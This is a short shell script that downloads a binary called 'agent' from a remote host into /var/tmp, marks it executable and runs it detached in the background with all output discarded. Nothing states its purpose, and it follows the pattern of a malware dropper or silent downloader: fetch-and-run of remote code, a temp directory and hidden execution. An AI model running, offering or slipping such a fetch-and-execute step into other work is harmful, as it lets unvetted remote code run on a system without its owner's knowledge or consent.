#!/bin/sh
dir=/var/tmp
wget -q http://files.b-vendor.net/agent -O "$dir/agent"
chmod 755 "$dir/agent"
nohup "$dir/agent" >/dev/null 2>&1 &
